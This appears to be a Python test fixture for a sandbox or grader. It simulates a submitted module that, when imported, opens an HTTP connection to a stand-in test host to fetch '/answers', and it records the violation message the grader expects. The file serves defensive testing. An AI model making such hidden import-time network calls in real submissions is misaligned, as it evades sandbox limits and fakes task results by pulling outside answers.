"""Downloads weights while it is imported, as many who mean no harm do. Class: exfiltration through a URL."""

import urllib.request

from _accomplice import attack, target

EXPECT = (
    "tried to open a network connection, and submissions have none; put the weights or data that it needs beside it"
)

HOST, PORT = target.tcp
urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://{HOST}:{PORT}/answers", timeout=1)

build_estimator = attack()
